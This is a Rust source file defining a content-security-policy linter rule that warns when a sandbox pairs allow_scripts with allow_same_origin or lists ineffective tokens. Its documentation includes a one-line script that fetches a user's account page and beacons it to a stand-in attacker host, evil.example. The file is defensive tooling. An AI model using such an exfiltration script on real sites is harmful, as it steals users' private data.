use crate::csp::{
    ALLOW_DOWNLOADS_WITHOUT_USER_ACTIVATION, ALLOW_POPUPS, ALLOW_POPUPS_TO_ESCAPE_SANDBOX, ALLOW_SAME_ORIGIN,
    ALLOW_SCRIPTS, ALLOW_TOP_NAVIGATION, ALLOW_TOP_NAVIGATION_BY_USER_ACTIVATION, ClauseValue, Directive, Disposition,
};
use crate::diagnostic::Diagnostic;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;
use crate::span::Span;
use crate::word::Word;

lint! {
    /// # What it does
    ///
    /// Looks for `allow_scripts` together with `allow_same_origin`, for tokens that another token includes, and for
    /// tokens that have no effect alone.
    ///
    /// # Why it matters
    ///
    /// A sandbox gives the page an opaque origin, so that its scripts cannot reach the cookies, the storage and the
    /// other pages of the site. With `allow_same_origin` the page keeps its real origin, and with `allow_scripts` its
    /// scripts can use it.
    ///
    /// # Attack
    ///
    /// The site serves user-uploaded files in a sandbox. An uploaded page runs this, and reads what belongs to the user
    /// who opens it:
    ///
    /// ```html
    /// <script>fetch("/account").then(page => page.text()).then(text => navigator.sendBeacon("https://evil.example/", text))</script>
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { default_src: self, sandbox: [allow_scripts, allow_same_origin] },
    /// ```
    ///
    /// # Fix
    ///
    /// Remove one of the two.
    ///
    /// ```text
    /// content_security_policy: { default_src: self, sandbox: [allow_scripts, allow_forms] },
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_sandbox, reason = "only forbids popups; the page is our own")]
    /// sandbox: [allow_scripts, allow_same_origin],
    /// ```
    ///
    /// Reasonable where the sandbox is not what keeps untrusted content away.
    ///
    /// # References
    ///
    /// - [HTML, sandboxing](https://html.spec.whatwg.org/multipage/browsers.html#sandboxing)
    /// - [CSP3, section 6.3.2, sandbox](https://w3c.github.io/webappsec-csp/#directive-sandbox)
    Warn "a sandbox that restricts little, or a token with no effect",
    cwe [693], asvs ["3.2.1"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let enforced = policy.csps_of(Disposition::Enforce);
    for csp in &enforced {
        let Some(clause) = csp.get(Directive::Sandbox) else { continue };
        let ClauseValue::Words(words) = &clause.value else { continue };
        let find = |token: &Word| words.iter().find(|word| word.node == token).map(|word| word.span);
        // Every policy applies its sandbox: a restriction is lifted only if each of them lifts it.
        let is_lifted = |token: &Word| !enforced.iter().any(|other| other.sandboxes(token));
        if let (Some(span), true) =
            (find(&ALLOW_SAME_ORIGIN), is_lifted(&ALLOW_SCRIPTS) && is_lifted(&ALLOW_SAME_ORIGIN))
        {
            report.push(
                Diagnostic::finding(
                    span,
                    "`allow_same_origin` together with `allow_scripts` disables most of the sandbox",
                )
                .help("remove one of the two")
                .note("scripts run with the page's real origin, and reach the site's cookies and storage"),
            );
        }
        if let (Some(_), Some(span)) = (find(&ALLOW_TOP_NAVIGATION), find(&ALLOW_TOP_NAVIGATION_BY_USER_ACTIVATION)) {
            report.push(idle(span, "allow_top_navigation_by_user_activation", "is included in `allow_top_navigation`"));
        }
        if let (None, Some(span)) = (find(&ALLOW_POPUPS), find(&ALLOW_POPUPS_TO_ESCAPE_SANDBOX)) {
            report.push(
                Diagnostic::finding(span, "`allow_popups_to_escape_sandbox` has no effect without `allow_popups`")
                    .help("add `allow_popups`, or remove it"),
            );
        }
        if let Some(span) = find(&ALLOW_DOWNLOADS_WITHOUT_USER_ACTIVATION) {
            report.push(idle(span, "allow_downloads_without_user_activation", "was removed, and browsers ignore it"));
        }
    }
}

fn idle(span: Span, key: &str, why: &str) -> Diagnostic {
    Diagnostic::finding(span, format!("`{key}` {why}")).help(format!("remove `{key}`")).remove(span)
}
